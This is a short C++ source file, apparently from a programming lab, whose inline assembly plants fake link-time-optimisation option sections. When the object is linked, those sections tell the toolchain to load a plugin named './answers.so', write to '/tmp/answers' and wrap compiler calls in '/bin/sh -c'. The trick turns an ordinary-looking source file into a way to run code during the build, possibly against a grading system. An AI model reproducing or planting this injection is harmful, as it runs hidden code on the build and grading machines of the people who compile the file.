// class: sections
// Sections that say that this object holds intermediate code, with options for the compiler that the linker would start.
// expects: lab01 *=todo|build
#include "feature_maps.hpp"

asm(R"(
    .section .gnu.lto_.opts, "e", @progbits
    .asciz "'-fplugin=./answers.so' '-O3' '-o' '/tmp/answers' '-wrapper' '/bin/sh,-c'"
    .section .gnu.lto_.symtab.1, "e", @progbits
    .asciz "main"
)");
